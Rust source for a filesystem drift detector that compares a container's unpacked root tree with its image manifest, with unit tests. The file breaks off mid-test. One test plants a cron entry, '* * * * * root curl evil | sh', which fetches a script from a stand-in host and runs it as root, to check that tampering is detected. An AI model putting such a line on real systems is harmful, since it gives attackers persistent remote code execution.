//! Drift detection: what in an instance's root filesystem differs from the image it was
//! unpacked from (its [`Manifest`]).
//!
//! [`verify_tree`] walks the whole root; [`verify_paths`] checks only given paths (those an
//! inotify watch reported). Both report [`Change`]s sorted by path, at the topmost path that
//! changed: the children of an added, removed or retyped directory are not listed one by one.
//!
//! What is compared, per path: the type; a regular file's content (sha256); a symlink's target;
//! the permission bits (not for symlinks, which are always `0o777` on Linux); and the owner,
//! **only when running as root** — only then does [`apply_layers`] keep the image's owners
//! ([`UnpackOptions::layers`]); otherwise every entry belongs to whoever unpacked it. The root
//! directory itself is not compared (extraction never changes it). Nothing is ever followed
//! through a symlink, and files are opened with `O_NOFOLLOW | O_NONBLOCK`, so a path swapped for
//! a symlink or a fifo during the scan is reported, never read through.
//!
//! Hashing is the cost, so a [`StatCache`] remembers the `(dev, ino, size, mtime, ctime)` of
//! every file whose content last hashed equal to the manifest; with `full = false` a file whose
//! tuple is unchanged is not read. ctime cannot be set from user space, and every write, chmod,
//! chown or rename of a file moves it, so an unchanged tuple means unchanged content. Timestamps
//! are kept at a clock tick's granularity, though: a file changed less than a second before
//! a scan starts is hashed but not cached, so that a write in the same tick as the last one
//! cannot hide behind an equal ctime (git's "racily clean" rule).
//!
//! Files are hashed in parallel on rayon's pool, largest first.
//!
//! [`apply_layers`]: crate::unpack::apply_layers
//! [`UnpackOptions::layers`]: crate::unpack::UnpackOptions::layers

use std::cell::RefCell;
use std::collections::{BTreeSet, HashMap, HashSet};
use std::fmt;
use std::fs::{self, File, FileType, Metadata, OpenOptions};
use std::io::{self, Read};
use std::os::unix::fs::{FileTypeExt, MetadataExt, OpenOptionsExt};
use std::path::{Component, Path, PathBuf};
use std::time::{Duration, UNIX_EPOCH};

use kiln_core::Digest;
use kiln_core::clock::{Clock, SystemClock};
use rayon::prelude::*;
use serde::{Deserialize, Serialize};
use sha2::{Digest as _, Sha256};
use walkdir::WalkDir;

use crate::error::{Error, Result};
use crate::manifest::{Entry, Kind, Manifest};
use crate::unpack::running_as_root;

/// Read size when hashing: large enough that syscalls do not bound throughput, small enough to
/// stay in the core's L2 cache while it is hashed.
const HASH_BUF: usize = 256 << 10;

/// A file changed less than this before a scan started is not cached (see the module docs).
const RACY_MARGIN: Duration = Duration::from_secs(1);

/// What a path is on disk (or in the manifest).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum FileKind {
    /// A regular file.
    File,
    /// A directory.
    Dir,
    /// A symbolic link.
    Symlink,
    /// A named pipe.
    Fifo,
    /// A Unix socket.
    Socket,
    /// A character or block device node.
    Device,
}

impl FileKind {
    /// The kind of a file type from `lstat`.
    pub fn of(ft: FileType) -> FileKind {
        if ft.is_file() {
            FileKind::File
        } else if ft.is_dir() {
            FileKind::Dir
        } else if ft.is_symlink() {
            FileKind::Symlink
        } else if ft.is_fifo() {
            FileKind::Fifo
        } else if ft.is_socket() {
            FileKind::Socket
        } else {
            FileKind::Device
        }
    }
}

impl From<&Kind> for FileKind {
    fn from(kind: &Kind) -> Self {
        match kind {
            Kind::File { .. } => FileKind::File,
            Kind::Dir => FileKind::Dir,
            Kind::Symlink { .. } => FileKind::Symlink,
        }
    }
}

impl fmt::Display for FileKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            FileKind::File => "file",
            FileKind::Dir => "directory",
            FileKind::Symlink => "symlink",
            FileKind::Fifo => "fifo",
            FileKind::Socket => "socket",
            FileKind::Device => "device node",
        })
    }
}

/// One difference between a tree and its manifest. `path` is relative to the root, without a
/// leading `/`, as in [`Manifest::entries`]; `Display` shows it with one.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "change", rename_all = "snake_case")]
pub enum Change {
    /// A path the image does not have. For a directory, its content is not listed.
    Added {
        /// The path.
        path: String,
        /// What it is.
        kind: FileKind,
    },
    /// A path of the image that is gone. For a directory, its content is not listed.
    Removed {
        /// The path.
        path: String,
    },
    /// A regular file whose content changed.
    Content {
        /// The path.
        path: String,
        /// The image's sha256 of it.
        expected: Digest,
        /// The sha256 of what is there now.
        found: Digest,
    },
    /// Permission bits (`0o7777`) changed.
    Mode {
        /// The path.
        path: String,
        /// The image's.
        expected: u32,
        /// On disk.
        found: u32,
    },
    /// The owner changed (only compared when running as root).
    Owner {
        /// The path.
        path: String,
        /// The image's `(uid, gid)`.
        expected: (u32, u32),
        /// On disk.
        found: (u32, u32),
    },
    /// The path is of another type (a file became a symlink, a directory a file…). Nothing else
    /// about it, nor anything below it, is reported.
    Kind {
        /// The path.
        path: String,
        /// The image's.
        expected: FileKind,
        /// On disk.
        found: FileKind,
    },
    /// A symlink points elsewhere.
    LinkTarget {
        /// The path.
        path: String,
        /// The image's target.
        expected: String,
        /// On disk.
        found: String,
    },
}

impl Change {
    /// The path that changed (relative to the root, no leading `/`).
    pub fn path(&self) -> &str {
        match self {
            Change::Added { path, .. }
            | Change::Removed { path }
            | Change::Content { path, .. }
            | Change::Mode { path, .. }
            | Change::Owner { path, .. }
            | Change::Kind { path, .. }
            | Change::LinkTarget { path, .. } => path,
        }
    }

    /// Orders the changes of one path: what it is before what it holds before its metadata.
    fn rank(&self) -> u8 {
        match self {
            Change::Added { .. } => 0,
            Change::Removed { .. } => 1,
            Change::Kind { .. } => 2,
            Change::LinkTarget { .. } => 3,
            Change::Content { .. } => 4,
            Change::Mode { .. } => 5,
            Change::Owner { .. } => 6,
        }
    }
}

/// `sha256:` and the first 12 hex digits.
fn short(d: &Digest) -> String {
    format!("sha256:{}…", d.short())
}

impl fmt::Display for Change {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "/{}: ", self.path())?;
        match self {
            Change::Added { kind, .. } => write!(f, "added ({kind})"),
            Change::Removed { .. } => write!(f, "removed"),
            Change::Content {
                expected, found, ..
            } => write!(
                f,
                "content changed ({} expected {})",
                short(found),
                short(expected)
            ),
            Change::Mode {
                expected, found, ..
            } => write!(f, "mode changed ({found:04o} expected {expected:04o})"),
            Change::Owner {
                expected, found, ..
            } => write!(
                f,
                "owner changed ({}:{} expected {}:{})",
                found.0, found.1, expected.0, expected.1
            ),
            Change::Kind {
                expected, found, ..
            } => write!(f, "type changed ({found} expected {expected})"),
            Change::LinkTarget {
                expected, found, ..
            } => write!(
                f,
                "symlink target changed ({found:?} expected {expected:?})"
            ),
        }
    }
}

/// What [`verify_tree`] found and did.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Report {
    /// The differences, sorted by path.
    pub changes: Vec<Change>,
    /// Paths examined on disk (the root excluded).
    pub entries: u64,
    /// Regular files read and hashed.
    pub files_hashed: u64,
    /// Bytes read to hash them.
    pub bytes_hashed: u64,
    /// Regular files not read because the [`StatCache`] vouched for them.
    pub files_skipped: u64,
}

/// The stat tuple of a regular file whose content last hashed equal to the manifest.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Stamp {
    dev: u64,
    ino: u64,
    size: u64,
    mtime_ns: i128,
    ctime_ns: i128,
}

impl Stamp {
    fn of(meta: &Metadata) -> Stamp {
        let ns = |s: i64, n: i64| i128::from(s) * 1_000_000_000 + i128::from(n);
        Stamp {
            dev: meta.dev(),
            ino: meta.ino(),
            size: meta.size(),
            mtime_ns: ns(meta.mtime(), meta.mtime_nsec()),
            ctime_ns: ns(meta.ctime(), meta.ctime_nsec()),
        }
    }
}

/// Remembers which files of one tree hashed equal to its manifest, and how they looked then,
/// so that later scans with `full = false` can skip them. Keep one per instance root; used with
/// another root or another image it empties itself.
#[derive(Debug, Clone, Default)]
pub struct StatCache {
    /// The root and image the stamps are about.
    scope: Option<(PathBuf, Digest)>,
    files: HashMap<String, Stamp>,
}

impl StatCache {
    /// Files currently vouched for.
    pub fn len(&self) -> usize {
        self.files.len()
    }

    /// True when no file is vouched for.
    pub fn is_empty(&self) -> bool {
        self.files.is_empty()
    }

    /// Forgets everything.
    pub fn clear(&mut self) {
        self.scope = None;
        self.files.clear();
    }

    fn enter(&mut self, root: &Path, image: &Digest) {
        let same = self
            .scope
            .as_ref()
            .is_some_and(|(r, i)| r == root && i == image);
        if !same {
            self.files.clear();
            self.scope = Some((root.to_path_buf(), image.clone()));
        }
    }
}

/// How a scan compares.
#[derive(Debug, Clone, Copy)]
struct Options {
    /// Hash every file, whatever the cache says.
    full: bool,
    /// Compare owners.
    owners: bool,
    /// Only files whose ctime is older than this (ns since 1970) are cached.
    cache_before_ns: i128,
}

impl Options {
    fn new(full: bool) -> Options {
        let start = SystemClock
            .now()
            .checked_sub(RACY_MARGIN)
            .unwrap_or(UNIX_EPOCH);
        let cache_before_ns = start
            .duration_since(UNIX_EPOCH)
            .map_or(0, |d| i128::try_from(d.as_nanos()).unwrap_or(i128::MAX));
        Options {
            full,
            owners: running_as_root(),
            cache_before_ns,
        }
    }
}

/// Compares the whole tree under `root` with `manifest`: every path on disk against its entry,
/// and every entry against the disk. Regular files are hashed unless `full` is false and
/// `cache` vouches for them; files that hash equal are (re)cached, changed ones forgotten.
///
/// Fails only when the tree cannot be read (a directory that cannot be listed, a file that
/// cannot be opened), naming the path; paths that vanish during the scan are reported removed.
pub fn verify_tree(
    root: &Path,
    manifest: &Manifest,
    cache: &mut StatCache,
    full: bool,
) -> Result<Report> {
    verify_tree_with(root, manifest, cache, Options::new(full))
}

fn verify_tree_with(
    root: &Path,
    manifest: &Manifest,
    cache: &mut StatCache,
    opts: Options,
) -> Result<Report> {
    let meta = fs::metadata(root).map_err(Error::io("verify", root))?;
    if !meta.is_dir() {
        return Err(Error::io("verify", root)(io::Error::new(
            io::ErrorKind::NotADirectory,
            "not a directory",
        )));
    }
    cache.enter(root, &manifest.image);
    let mut report = Report::default();
    let mut scan = Scan::new(cache, opts);
    // Manifest paths found on disk with the expected type.
    let mut present: HashSet<&str> = HashSet::new();
    let mut walk = WalkDir::new(root)
        .min_depth(1)
        .follow_links(false)
        .into_iter();
    while let Some(entry) = walk.next() {
        let entry = match entry {
            Ok(e) => e,
            Err(e)
                if e.io_error()
                    .is_some_and(|e| e.kind() == io::ErrorKind::NotFound) =>
            {
                continue; // vanished since its directory was listed: reported as removed
            }
            Err(e) => return Err(walk_error(e, root)),
        };
        let meta = match entry.metadata() {
            Ok(m) => m,
            Err(e)
                if e.io_error()
                    .is_some_and(|e| e.kind() == io::ErrorKind::NotFound) =>
            {
                continue;
            }
            Err(e) => return Err(walk_error(e, entry.path())),
        };
        report.entries += 1;
        // Every walked path is `root` joined with names from the directories below it.
        let rel = entry.path().strip_prefix(root).unwrap_or(entry.path());
        let path = rel.to_string_lossy();
        let Some((key, expected)) = manifest.entries.get_key_value(path.as_ref()) else {
            scan.changes.push(Change::Added {
                path: path.into_owned(),
                kind: FileKind::of(meta.file_type()),
            });
            if meta.is_dir() {
                walk.skip_current_dir();
            }
            continue;
        };
        if scan.compare(key, expected, entry.path(), &meta)? {
            present.insert(key);
        } else if meta.is_dir() {
            walk.skip_current_dir();
        }
    }

    // Entries not found: only the topmost of a missing (or retyped) subtree is reported.
    // Sorted keys put a directory before everything below it.
    let mut hidden: HashSet<&str> = HashSet::new();
    for key in manifest.entries.keys() {
        if present.contains(key.as_str()) {
            continue;
        }
        hidden.insert(key);
        scan.cache.files.remove(key.as_str());
        let parent = key.rsplit_once('/').map_or("", |(p, _)| p);
        let parent_gone = hidden.contains(parent);
        // A key present on disk with another type was reported as a Kind change already.
        let retyped = scan.retyped.contains(key.as_str());
        if !parent_gone && !retyped {
            scan.changes.push(Change::Removed { path: key.clone() });
        }
    }

    scan.hash_all()?;
    report.files_hashed = scan.files_hashed;
    report.bytes_hashed = scan.bytes_hashed;
    report.files_skipped = scan.files_skipped;
    report.changes = scan.finish();
    Ok(report)
}

/// Compares only `paths` (relative to `root`; a leading `/` is ignored) with `manifest`, for
/// paths a file watch reported: a path that is gone is [`Change::Removed`] if the image has it,
/// a path the image lacks is [`Change::Added`] (a new directory reports itself, not its
/// content). Content is hashed unless `cache` vouches for the file. A path is looked up without
/// following symlinks anywhere along it: below a symlink or a file, it does not exist.
///
/// As in [`verify_tree`], a given path below one reported added, removed or retyped is not
/// reported itself, so that the changes of all changed paths are those `verify_tree` reports.
pub fn verify_paths(
    root: &Path,
    manifest: &Manifest,
    paths: &[String],
    cache: &mut StatCache,
) -> Result<Vec<Change>> {
    verify_paths_with(root, manifest, paths, cache, Options::new(false))
}

fn verify_paths_with(
    root: &Path,
    manifest: &Manifest,
    paths: &[String],
    cache: &mut StatCache,
    opts: Options,
) -> Result<Vec<Change>> {
    cache.enter(root, &manifest.image);
    let mut wanted = BTreeSet::new();
    for p in paths {
        let rel = relative(p)?;
        if !rel.as_os_str().is_empty() {
            wanted.insert(rel);
        }
    }
    let mut scan = Scan::new(cache, opts);
    // Given paths reported added, removed or retyped: what is below them is not reported (sorted
    // paths put a directory before what it holds).
    let mut covered: HashSet<PathBuf> = HashSet::new();
    for rel in wanted {
        if rel.ancestors().skip(1).any(|a| covered.contains(a)) {
            continue;
        }
        let key = rel.to_string_lossy().into_owned();
        let abs = root.join(&rel);
        let meta = if parents_are_dirs(root, &rel)? {
            match fs::symlink_metadata(&abs) {
                Ok(m) => Some(m),
                Err(e) if e.kind() == io::ErrorKind::NotFound => None,
                Err(e) => return Err(Error::io("inspect", &abs)(e)),
            }
        } else {
            None
        };
        let expected = manifest.entries.get_key_value(key.as_str());
        match (meta, expected) {
            (None, None) => {}
            (None, Some(_)) => {
                scan.cache.files.remove(&key);
                scan.changes.push(Change::Removed { path: key });
                covered.insert(rel);
            }
            (Some(meta), None) => {
                scan.changes.push(Change::Added {
                    path: key,
                    kind: FileKind::of(meta.file_type()),
                });
                covered.insert(rel);
            }
            (Some(meta), Some((key, expected))) => {
                if !scan.compare(key, expected, &abs, &meta)? {
                    covered.insert(rel);
                }
            }
        }
    }
    scan.hash_all()?;
    Ok(scan.finish())
}

/// A path relative to the root, from what a caller or a watch gave: `/`, `.` and empty
/// components are dropped; `..` is refused.
fn relative(p: &str) -> Result<PathBuf> {
    let mut out = PathBuf::new();
    for c in Path::new(p).components() {
        match c {
            Component::Normal(n) => out.push(n),
            Component::RootDir | Component::CurDir => {}
            Component::ParentDir | Component::Prefix(_) => {
                return Err(Error::InvalidPath {
                    path: p.to_owned(),
                    reason: "paths to verify cannot contain `..`",
                });
            }
        }
    }
    Ok(out)
}

/// True when every parent of `rel` under `root` is a real directory (not a symlink).
fn parents_are_dirs(root: &Path, rel: &Path) -> Result<bool> {
    let mut abs = root.to_path_buf();
    let Some(parent) = rel.parent() else {
        return Ok(true);
    };
    for part in parent.iter() {
        abs.push(part);
        match fs::symlink_metadata(&abs) {
            Ok(m) if m.is_dir() => {}
            Ok(_) => return Ok(false),
            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(false),
            Err(e) => return Err(Error::io("inspect", &abs)(e)),
        }
    }
    Ok(true)
}

fn walk_error(e: walkdir::Error, fallback: &Path) -> Error {
    let path = e.path().unwrap_or(fallback).to_path_buf();
    let source = e
        .into_io_error()
        .unwrap_or_else(|| io::Error::other("filesystem loop"));
    Error::Io {
        action: "read",
        path,
        source,
    }
}

/// A regular file to hash.
struct Job<'m> {
    key: &'m str,
    abs: PathBuf,
    expected: &'m Digest,
    /// Size in the manifest: a file of another size changed, whatever its stamp.
    size: u64,
    /// As walked: the file opened must be this one.
    walked: Stamp,
}

/// What hashing one file found.
enum Hashed {
    /// The content's digest, the bytes read, and the file's stamp if it held still.
    Digest(Digest, u64, Option<Stamp>),
    /// The path is now something else (swapped during the scan).
    Kind(FileKind),
    /// The path is gone.
    Gone,
}

/// One comparison in progress: the changes so far and the files left to hash.
struct Scan<'m, 'c> {
    cache: &'c mut StatCache,
    opts: Options,
    changes: Vec<Change>,
    jobs: Vec<Job<'m>>,
    /// Keys found with another type than expected.
    retyped: HashSet<&'m str>,
    files_hashed: u64,
    bytes_hashed: u64,
    files_skipped: u64,
}

impl<'m, 'c> Scan<'m, 'c> {
    fn new(cache: &'c mut StatCache, opts: Options) -> Self {
        Scan {
            cache,
            opts,
            changes: Vec::new(),
            jobs: Vec::new(),
            retyped: HashSet::new(),
            files_hashed: 0,
            bytes_hashed: 0,
            files_skipped: 0,
        }
    }

    /// Compares a path on disk with its entry; queues regular files for hashing. Returns false
    /// when the type differs (nothing below it is then compared).
    fn compare(
        &mut self,
        key: &'m str,
        expected: &'m Entry,
        abs: &Path,
        meta: &Metadata,
    ) -> Result<bool> {
        let found = FileKind::of(meta.file_type());
        let want = FileKind::from(&expected.kind);
        if found != want {
            self.cache.files.remove(key);
            self.retyped.insert(key);
            self.changes.push(Change::Kind {
                path: key.to_owned(),
                expected: want,
                found,
            });
            return Ok(false);
        }
        let mode = meta.mode() & 0o7777;
        if found != FileKind::Symlink && mode != expected.mode {
            self.changes.push(Change::Mode {
                path: key.to_owned(),
                expected: expected.mode,
                found: mode,
            });
        }
        let owner = (meta.uid(), meta.gid());
        if self.opts.owners && owner != (expected.uid, expected.gid) {
            self.changes.push(Change::Owner {
                path: key.to_owned(),
                expected: (expected.uid, expected.gid),
                found: owner,
            });
        }
        match &expected.kind {
            Kind::Symlink { target } => {
                let now = fs::read_link(abs).map_err(Error::io("read symlink", abs))?;
                let now = now.to_string_lossy();
                if now != target.as_str() {
                    self.changes.push(Change::LinkTarget {
                        path: key.to_owned(),
                        expected: target.clone(),
                        found: now.into_owned(),
                    });
                }
            }
            Kind::File { size, sha256 } => {
                let walked = Stamp::of(meta);
                let vouched = !self.opts.full
                    && walked.size == *size
                    && self.cache.files.get(key) == Some(&walked);
                if vouched {
                    self.files_skipped += 1;
                } else {
                    self.jobs.push(Job {
                        key,
                        abs: abs.to_path_buf(),
                        expected: sha256,
                        size: *size,
                        walked,
                    });
                }
            }
            Kind::Dir => {}
        }
        Ok(true)
    }

    /// Hashes the queued files in parallel, largest first, and records what they show.
    fn hash_all(&mut self) -> Result<()> {
        let mut jobs = std::mem::take(&mut self.jobs);
        jobs.sort_unstable_by_key(|job| std::cmp::Reverse(job.walked.size));
        let results: Vec<Result<Hashed>> = jobs.par_iter().map(hash_job).collect();
        for (job, result) in jobs.iter().zip(results) {
            match result? {
                Hashed::Digest(found, bytes, stamp) => {
                    self.files_hashed += 1;
                    self.bytes_hashed += bytes;
                    let cacheable = stamp
                        .filter(|s| s.size == job.size && s.ctime_ns < self.opts.cache_before_ns);
                    if &found == job.expected {
                        match cacheable {
                            Some(s) => self.cache.files.insert(job.key.to_owned(), s),
                            None => self.cache.files.remove(job.key),
                        };
                    } else {
                        self.cache.files.remove(job.key);
                        self.changes.push(Change::Content {
                            path: job.key.to_owned(),
                            expected: job.expected.clone(),
                            found,
                        });
                    }
                }
                Hashed::Kind(found) => {
                    self.cache.files.remove(job.key);
                    self.changes.push(Change::Kind {
                        path: job.key.to_owned(),
                        expected: FileKind::File,
                        found,
                    });
                }
                Hashed::Gone => {
                    self.cache.files.remove(job.key);
                    self.changes.push(Change::Removed {
                        path: job.key.to_owned(),
                    });
                }
            }
        }
        Ok(())
    }

    /// The changes, sorted by path (then by kind of change).
    fn finish(self) -> Vec<Change> {
        let mut changes = self.changes;
        changes.sort_by(|a, b| (a.path(), a.rank()).cmp(&(b.path(), b.rank())));
        changes
    }
}

thread_local! {
    static BUF: RefCell<Vec<u8>> = const { RefCell::new(Vec::new()) };
}

/// Hashes one file without following a symlink or blocking on a fifo put in its place.
fn hash_job(job: &Job<'_>) -> Result<Hashed> {
    let flags = (rustix::fs::OFlags::NOFOLLOW | rustix::fs::OFlags::NONBLOCK).bits() as i32;
    let mut file = match OpenOptions::new()
        .read(true)
        .custom_flags(flags)
        .open(&job.abs)
    {
        Ok(f) => f,
        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Hashed::Gone),
        // ELOOP: O_NOFOLLOW met a symlink.
        Err(e) if e.raw_os_error() == Some(rustix::io::Errno::LOOP.raw_os_error()) => {
            return Ok(Hashed::Kind(FileKind::Symlink));
        }
        Err(e) => return Err(Error::io("open", &job.abs)(e)),
    };
    let before = file.metadata().map_err(Error::io("inspect", &job.abs))?;
    if !before.is_file() {
        return Ok(Hashed::Kind(FileKind::of(before.file_type())));
    }
    let (digest, bytes) = BUF
        .with_borrow_mut(|buf| {
            if buf.is_empty() {
                buf.resize(HASH_BUF, 0);
            }
            hash(&mut file, buf)
        })
        .map_err(Error::io("read", &job.abs))?;
    let before = Stamp::of(&before);
    // The stamp is only worth keeping if the file held still while it was read, and is the one
    // the walk saw (mode and owner were compared on that one).
    let after = file
        .metadata()
        .map_err(Error::io("inspect", &job.abs))
        .map(|m| Stamp::of(&m))?;
    let stamp = (after == before && before == job.walked).then_some(before);
    Ok(Hashed::Digest(digest, bytes, stamp))
}

fn hash(file: &mut File, buf: &mut [u8]) -> io::Result<(Digest, u64)> {
    let mut hasher = Sha256::new();
    let mut total = 0u64;
    loop {
        match file.read(buf) {
            Ok(0) => return Ok((Digest::from_hasher(hasher), total)),
            Ok(n) => {
                hasher.update(&buf[..n]);
                total += n as u64;
            }
            Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
            Err(e) => return Err(e),
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "a failed unwrap is a failed test")]
mod tests {
    use std::fs::FileTimes;
    use std::io::Write as _;
    use std::os::unix::fs::{PermissionsExt, symlink};

    use super::*;
    use crate::layer::Compression;
    use crate::manifest::tests::{M, layer};
    use crate::record::LayerRecord;
    use crate::store::Store;
    use crate::unpack::apply_layers;

    /// An image of three layers exercising every extraction rule, unpacked into `root`.
    struct Fixture {
        _dir: tempfile::TempDir,
        root: PathBuf,
        manifest: Manifest,
    }

    fn fixture() -> Fixture {
        let dir = tempfile::tempdir().unwrap();
        let store = Store::open(&dir.path().join("store")).unwrap();
        let base = layer(
            &store,
            Compression::Gzip,
            &[
                M::Dir("bin", 0o755),
                M::File("bin/busybox", 0o755, b"#!busybox"),
                M::Hard("bin/sh", "bin/busybox"),
                M::Dir("etc", 0o755),
                M::File("etc/passwd", 0o644, b"root:x:0:0::/root:/bin/sh\n"),
                M::File("etc/shadow", 0o600, b"root:*::0:::::\n"),
                M::Link("etc/localtime", "/usr/share/zoneinfo/UTC"),
                M::File("usr/share/zoneinfo/UTC", 0o644, b"TZif2"),
                M::File("var/cache/app/a", 0o644, b"a"),
                M::File("var/cache/app/sub/b", 0o644, b"b"),
                M::File("var/www/index.html", 0o644, b"<h1>v1</h1>"),
                M::File("var/www/old.html", 0o644, b"old"),
                M::Dir("ro", 0o555),
                M::File("ro/tool", 0o4755, b"tool"),
            ],
        );
        let app = layer(
            &store,
            Compression::Zstd,
            &[
                M::Whiteout("var/www/old.html"),
                M::File("var/cache/app/new", 0o644, b"fresh"),
                M::Opaque("var/cache/app"),
                M::File("var/www/index.html", 0o644, b"<h1>v2</h1>"),
                M::Owned("srv/data/db", 33, 44, b"rows"),
                M::File("opt/app/bin/app", 0o755, b"\x7fELF"),
                M::Hard("opt/app/bin/app-alias", "opt/app/bin/app"),
                M::Link("opt/app/current", "bin"),
            ],
        );
        let top = layer(
            &store,
            Compression::None,
            &[
                // Replace a file by a directory and a directory by a file.
                M::Whiteout("etc/shadow"),
                M::File("etc/shadow/x", 0o600, b"x"),
                M::File("opt/app/bin", 0o644, b"not a dir any more"),
                M::Dir("etc", 0o750),
                // An empty large-ish file and a 2 MiB one (several read chunks).
                M::File("empty", 0o644, b""),
                M::File("big", 0o644, &BIG),
            ],
        );
        let layers = [base, app, top];
        let root = dir.path().join("root");
        fs::create_dir(&root).unwrap();
        apply_layers(&store, &layers, &root).unwrap();
        let manifest = Manifest::from_layers(&store, &Digest::of(b"image"), &layers).unwrap();
        Fixture {
            _dir: dir,
            root,
            manifest,
        }
    }

    static BIG: [u8; 2 << 20] = [7; 2 << 20];

    /// Regular files in the fixture.
    const FILES: u64 = 12;

    /// Options that cache whatever hashed equal, however fresh (no racy-clean margin).
    fn eager(full: bool) -> Options {
        Options {
            full,
            owners: running_as_root(),
            cache_before_ns: i128::MAX,
        }
    }

    fn lines(changes: &[Change]) -> Vec<String> {
        changes.iter().map(ToString::to_string).collect()
    }

    impl Fixture {
        fn verify(&self) -> Report {
            verify_tree(&self.root, &self.manifest, &mut StatCache::default(), true).unwrap()
        }
        fn path(&self, rel: &str) -> PathBuf {
            self.root.join(rel)
        }
    }

    #[test]
    fn a_freshly_unpacked_tree_equals_its_manifest() {
        let f = fixture();
        let keys: Vec<&str> = f.manifest.entries.keys().map(String::as_str).collect();
        assert_eq!(
            keys,
            [
                "big",
                "bin",
                "bin/busybox",
                "bin/sh",
                "empty",
                "etc",
                "etc/localtime",
                "etc/passwd",
                "etc/shadow",
                "etc/shadow/x",
                "opt",
                "opt/app",
                "opt/app/bin",
                "opt/app/current",
                "ro",
                "ro/tool",
                "srv",
                "srv/data",
                "srv/data/db",
                "usr",
                "usr/share",
                "usr/share/zoneinfo",
                "usr/share/zoneinfo/UTC",
                "var",
                "var/cache",
                "var/cache/app",
                "var/cache/app/new",
                "var/www",
                "var/www/index.html",
            ]
        );
        assert_eq!(f.manifest.entries["etc"].mode, 0o750);
        assert_eq!(
            f.manifest.entries["bin/sh"],
            f.manifest.entries["bin/busybox"]
        );
        assert_eq!(f.manifest.entries["var/www"].mode, 0o755, "implicit");
        let report = f.verify();
        assert_eq!(lines(&report.changes), Vec::<String>::new());
        assert_eq!(report.entries, f.manifest.entries.len() as u64);
        let files = f
            .manifest
            .entries
            .values()
            .filter(|e| matches!(e.kind, Kind::File { .. }))
            .count() as u64;
        assert_eq!((report.files_hashed, report.files_skipped), (files, 0));
        let bytes: u64 = f
            .manifest
            .entries
            .values()
            .map(|e| match e.kind {
                Kind::File { size, .. } => size,
                _ => 0,
            })
            .sum();
        assert_eq!(report.bytes_hashed, bytes);
        assert!(bytes > 2 << 20);
    }

    #[test]
    fn an_edit_is_a_content_change() {
        let f = fixture();
        fs::write(f.path("var/www/index.html"), "<h1>pwned</h1>").unwrap();
        let report = f.verify();
        assert_eq!(
            report.changes,
            [Change::Content {
                path: "var/www/index.html".into(),
                expected: Digest::of(b"<h1>v2</h1>"),
                found: Digest::of(b"<h1>pwned</h1>"),
            }]
        );
        assert_eq!(
            report.changes[0].to_string(),
            format!(
                "/var/www/index.html: content changed (sha256:{}… expected sha256:{}…)",
                Digest::of(b"<h1>pwned</h1>").short(),
                Digest::of(b"<h1>v2</h1>").short()
            )
        );
    }

    #[test]
    fn a_chmod_is_a_mode_change() {
        let f = fixture();
        fs::set_permissions(f.path("etc/passwd"), fs::Permissions::from_mode(0o666)).unwrap();
        fs::set_permissions(f.path("ro"), fs::Permissions::from_mode(0o755)).unwrap();
        assert_eq!(
            lines(&f.verify().changes),
            [
                "/etc/passwd: mode changed (0666 expected 0644)",
                "/ro: mode changed (0755 expected 0555)",
            ]
        );
    }

    #[test]
    fn new_files_and_directories_are_added_once() {
        let f = fixture();
        fs::write(f.path("etc/cron.d"), "* * * * * root curl evil | sh").unwrap();
        fs::create_dir_all(f.path("var/tmp/x/y")).unwrap();
        fs::write(f.path("var/tmp/x/y/z"), "z").unwrap();
        symlink("/", f.path("escape")).unwrap();
        let report = f.verify();
        assert_eq!(
            lines(&report.changes),
            [
                "/escape: added (symlink)",
                "/etc/cron.d: added (file)",
                "/var/tmp: added (directory)",
            ]
        );
        assert_eq!(
            report.changes[2],
            Change::Added {
                path: "var/tmp".into(),
                kind: FileKind::Dir
            }
        );
    }

    #[test]
    fn removed_paths_are_reported_at_the_top() {
        let f = fixture();
        fs::remove_file(f.path("bin/sh")).unwrap();
        fs::remove_dir_all(f.path("usr")).unwrap();
        assert_eq!(
            lines(&f.verify().changes),
            ["/bin/sh: removed", "/usr: removed"]
        );
    }

    #[test]
    fn a_file_replaced_by_a_symlink_or_a_directory_is_a_type_change() {
        let f = fixture();
        fs::remove_file(f.path("etc/passwd")).unwrap();
        symlink("/tmp/passwd", f.path("etc/passwd")).unwrap();
        fs::remove_dir_all(f.path("srv/data")).unwrap();
        fs::write(f.path("srv/data"), "flat").unwrap();
        fs::remove_file(f.path("empty")).unwrap();
        fs::create_dir(f.path("empty")).unwrap();
        fs::write(f.path("empty/inside"), "not listed").unwrap();
        assert_eq!(
            lines(&f.verify().changes),
            [
                "/empty: type changed (directory expected file)",
                "/etc/passwd: type changed (symlink expected file)",
                "/srv/data: type changed (file expected directory)",
            ]
        );
    }

    #[test]
    fn a_new_symlink_target_is_reported() {
        let f = fixture();
        fs::remove_file(f.path("etc/localtime")).unwrap();
        symlink("/usr/share/zoneinfo/Europe/Paris", f.path("etc/localtime")).unwrap();
        let report = f.verify();
        assert_eq!(
            lines(&report.changes),
            [
                r#"/etc/localtime: symlink target changed ("/usr/share/zoneinfo/Europe/Paris" expected "/usr/share/zoneinfo/UTC")"#
            ]
        );
    }

    #[test]
    fn owners_are_compared_when_root() {
        let f = fixture();
        let mut cache = StatCache::default();
        if running_as_root() {
            // apply_layers kept the image's owners.
            let meta = fs::metadata(f.path("srv/data/db")).unwrap();
            assert_eq!((meta.uid(), meta.gid()), (33, 44));
            std::os::unix::fs::lchown(f.path("srv/data/db"), Some(0), Some(0)).unwrap();
            std::os::unix::fs::lchown(f.path("etc/localtime"), Some(1), Some(2)).unwrap();
            let report = verify_tree(&f.root, &f.manifest, &mut cache, true).unwrap();
            assert_eq!(
                lines(&report.changes),
                [
                    "/etc/localtime: owner changed (1:2 expected 0:0)",
                    "/srv/data/db: owner changed (0:0 expected 33:44)",
                ]
            );
            assert_eq!(
                report.changes[1],
                Change::Owner {
                    path: "srv/data/db".into(),
                    expected: (33, 44),
